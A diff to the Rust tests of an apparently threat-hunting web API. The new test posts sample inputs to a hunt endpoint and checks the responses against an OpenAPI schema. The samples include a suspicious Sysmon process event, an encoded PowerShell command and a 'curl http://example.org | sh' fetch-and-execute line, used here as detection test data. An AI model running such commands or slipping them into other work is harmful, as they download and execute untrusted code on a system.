@@ -182,8 +182,33 @@ fn every_answer_is_as_described_and_every_path_answers() {
             assert!(operation["parameters"].as_array().unwrap().iter().any(is_named), "{address}: {name}");
         }
     }
-    let described: BTreeSet<String> = description["paths"].as_object().unwrap().keys().cloned().collect();
+    let described = description["paths"].as_object().unwrap().iter();
+    let described: BTreeSet<String> =
+        described.filter(|(_, path)| path["get"].is_object()).map(|(name, _)| name.clone()).collect();
     assert_eq!(seen, described, "a path of the description was never asked for");
+}
+
+#[test]
+fn what_is_answered_to_what_is_sent_is_as_described() {
+    let served = Site::demo();
+    let description: Value = serde_json::from_str(&served.page("/api/openapi.json")).unwrap();
+    let line = r#"{"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "Image": "C:\\Windows\\System32\\rundll32.exe", "CommandLine": "rundll32.exe", "ParentImage": "C:\\w3wp.exe"}"#;
+    for (address, body) in [
+        ("/api/v1/hunt", line),
+        ("/api/v1/hunt", "{\"strange\": 1}\n["),
+        ("/api/v1/hunt?as=windows", "powershell -enc AAAA"),
+        ("/api/v1/hunt?as=linux", "curl http://example.org | sh"),
+    ] {
+        let request = axum::http::Request::post(address).body(axum::body::Body::from(body)).unwrap();
+        let answer = served.send(request);
+        assert_eq!(answer.status(), 200, "{address}");
+        let value: Value = serde_json::from_slice(&served.bytes(answer)).unwrap();
+        let path = path_of(&description, address).unwrap();
+        let schema = &description["paths"][path]["post"]["responses"]["200"]["content"]["application/json"]["schema"];
+        assert!(schema.is_object());
+        assert_eq!(fault(&description, schema, &value, address), None);
+    }
 }
 
 #[test]
